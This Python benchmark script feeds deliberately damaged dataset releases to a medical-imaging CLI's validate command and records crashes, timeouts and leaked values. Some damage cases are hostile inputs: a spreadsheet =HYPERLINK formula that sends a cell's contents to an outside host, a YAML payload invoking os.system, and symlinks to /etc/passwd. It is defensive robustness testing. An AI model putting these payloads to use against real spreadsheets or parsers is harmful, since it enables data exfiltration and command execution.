"""hostile11: a hand-damaged release through `vindr validate`, and `vindr release` fed a split
whose annotations carry formula strings (=HYPERLINK) and names in rad_id.

Needs a release built from sample_dicoms (as tests/conftest.py's `pipeline` does; RELEASE_BASE
holds anon/, images/, split/, release/, anon.linkage.parquet). Each damage is made on a copy;
every run is the CLI in a child with a time limit.

    python bench/hostile11_release.py RELEASE_BASE [--json bench/results/hostile11_release.json]
"""
from __future__ import annotations

import argparse
import csv
import json
import os
import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from bench_io import write_cases  # noqa: E402

NAME = "Nguyen Van Planted"
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'


def run(args, timeout=300) -> dict:
    t0 = time.time()
    try:
        p = subprocess.run([sys.executable, "-m", "vindr_cli", *map(str, args)], capture_output=True, timeout=timeout)
    except subprocess.TimeoutExpired:
        return {"rc": "TIMEOUT", "wall_s": timeout}
    out = p.stdout.decode("utf-8", "replace") + p.stderr.decode("utf-8", "replace")
    return {"rc": p.returncode, "wall_s": round(time.time() - t0, 1), "traceback": "Traceback" in out,
            "name_printed": "Planted" in out, "formula_printed": "HYPERLINK" in out,
            "last_line": out.strip().splitlines()[-1][:200] if out.strip() else ""}


def first(root: Path, pattern: str) -> Path:
    return sorted(root.glob(pattern) if "/" in pattern else root.rglob(pattern))[0]


def damages():
    """(label, function(release folder)) pairs."""
    def trunc(pattern, keep=0.5):
        def f(r):
            p = first(r, pattern)
            p.write_bytes(p.read_bytes()[:int(p.stat().st_size * keep)])
        return f

    def remove(pattern):
        return lambda r: first(r, pattern).unlink()

    def write(rel, data: bytes):
        return lambda r: (r / rel).write_bytes(data)

    def link(rel, target):
        return lambda r: os.symlink(target, r / rel)

    def edit_csv(pattern, col, value):
        def f(r):
            p = first(r, pattern)
            rows = list(csv.reader(p.open(newline="")))
            i = rows[0].index(col)
            for row in rows[1:3]:
                row[i] = value
            with p.open("w", newline="") as fh:
                csv.writer(fh).writerows(rows)
        return f

    def json_edit(name, fn):
        def f(r):
            p = r / name
            d = json.loads(p.read_text())
            p.write_text(json.dumps(fn(d)))
        return f

    return [
        ("intact", lambda r: None),
        ("a DICOM removed", remove("*.dicom")),
        ("a PNG removed", remove("train/images/*.png")),
        ("a DICOM truncated", trunc("*.dicom")),
        ("a DICOM emptied", trunc("*.dicom", 0)),
        ("a PNG truncated", trunc("train/images/*.png")),
        ("a PNG replaced by text", lambda r: first(r, "train/images/*.png").write_bytes(b"not a png")),
        ("an extra file", write("train/dicom/extra.dicom", b"\0" * 200)),
        ("an extra folder", lambda r: (r / "train" / "dicom" / "x" / "y").mkdir(parents=True)),
        ("a stray text file at the top", write("notes.txt", NAME.encode())),
        ("a symlink to /etc/passwd", link("train/dicom/link.dicom", "/etc/passwd")),
        ("a symlink to a folder outside", link("train/outside", "/etc")),
        ("a symlink loop", lambda r: (os.symlink("loop2", r / "loop1"), os.symlink("loop1", r / "loop2"))),
        ("a dangling symlink", link("train/dicom/gone.dicom", "/nonexistent/x")),
        ("a FIFO", lambda r: os.mkfifo(r / "train" / "dicom" / "fifo.dicom")),
        ("images.csv removed", remove("images.csv")),
        ("images.csv truncated", trunc("images.csv")),
        ("images.csv empty", trunc("images.csv", 0)),
        ("images.csv binary", write("images.csv", bytes(range(256)) * 10)),
        ("split.csv removed", remove("split.csv")),
        ("split.csv wrong split value", edit_csv("split.csv", "split", "validation")),
        ("split.csv formula", edit_csv("split.csv", "patient_id", FORMULA)),
        ("split.csv name", edit_csv("split.csv", "patient_id", NAME)),
        ("annotations csv NaN box", edit_csv("annotations_train.csv", "x_min", "NaN")),
        ("annotations csv formula rad_id", edit_csv("annotations_train.csv", "rad_id", FORMULA)),
        ("annotations csv name class", edit_csv("annotations_train.csv", "class_name", NAME)),
        ("annotations csv removed", remove("annotations_train.csv")),
        ("coco json truncated", trunc("coco_train.json")),
        ("coco json is a list", write("annotations/coco_train.json", b"[]")),
        ("coco json nested 100000", write("annotations/coco_train.json", b"[" * 100000 + b"]" * 100000)),
        ("coco json NaN", lambda r: (r / "annotations" / "coco_train.json").write_text(
            (r / "annotations" / "coco_train.json").read_text().replace('"bbox": [', '"bbox": [NaN, ', 1))),
        ("labels.json removed", remove("labels.json")),
        ("labels.json garbage", write("labels.json", b"{\"classes\": 5}")),
        ("datasheet.json removed", remove("datasheet.json")),
        ("datasheet.json wrong types", json_edit("datasheet.json", lambda d: {k: None for k in d})),
        ("split_report.json a number", write("split_report.json", b"7")),
        ("yolo label garbage", lambda r: first(r, "*.txt").write_bytes(b"0 nan inf -1 1e308\nx y\n")),
        ("yolo data.yaml garbage", write("yolo/data.yaml", b"!!python/object:os.system [ls]\n: : :\n")),
        ("a parquet written where a CSV was", lambda r: shutil.copy(first(r, "images.csv"), r / "images.parquet")),
    ]


def main(argv=None) -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("base", type=Path)
    ap.add_argument("--json", default=None)
    ap.add_argument("--only", default=None)
    a = ap.parse_args(argv)
    load0 = os.getloadavg()[0]
    release = a.base / "release"
    results = []
    with tempfile.TemporaryDirectory() as tmp:
        for i, (label, damage) in enumerate(damages()):
            if a.only and a.only not in label:
                continue
            r = Path(tmp) / f"r{i}"
            shutil.copytree(release, r, symlinks=True)
            try:
                damage(r)
            except Exception as exc:
                results.append({"case": label, "not_built": type(exc).__name__})
                continue
            rec = {"case": label, "validate": run(["validate", r]), "validate_nohash": run(["validate", r, "--no-hash"])}
            results.append(rec)
            print(json.dumps(rec), flush=True)
            shutil.rmtree(r, ignore_errors=True)
    if a.json:
        write_cases(a.json, results, load0)
    return 0


if __name__ == "__main__":
    sys.exit(main())
